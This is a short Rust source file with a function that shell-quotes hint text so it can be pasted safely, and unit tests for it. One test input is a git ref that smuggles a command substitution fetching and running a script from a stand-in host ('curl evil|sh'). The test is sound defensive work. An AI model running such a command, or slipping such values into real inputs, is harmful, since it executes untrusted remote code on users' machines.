//! Texts in hints that are copied into a shell.

/// A text that a shell takes as one word and nothing else: hints are copied, and a git ref may hold `$(…)`.
pub(super) fn quoted(text: &str) -> String {
    let is_plain = |b: u8| {
        b.is_ascii_alphanumeric() || matches!(b, b'@' | b'%' | b'+' | b'=' | b':' | b',' | b'.' | b'/' | b'_' | b'-')
    };
    if !text.is_empty() && text.bytes().all(is_plain) {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hints_can_be_copied_into_a_shell() {
        assert_eq!(
            quoted("https://github.com/acme/app/x.yml@refs/tags/v1"),
            "https://github.com/acme/app/x.yml@refs/tags/v1"
        );
        assert_eq!(quoted("x@refs/heads/$(curl evil|sh)"), "'x@refs/heads/$(curl evil|sh)'");
        assert_eq!(quoted("it's"), r"'it'\''s'");
    }
}
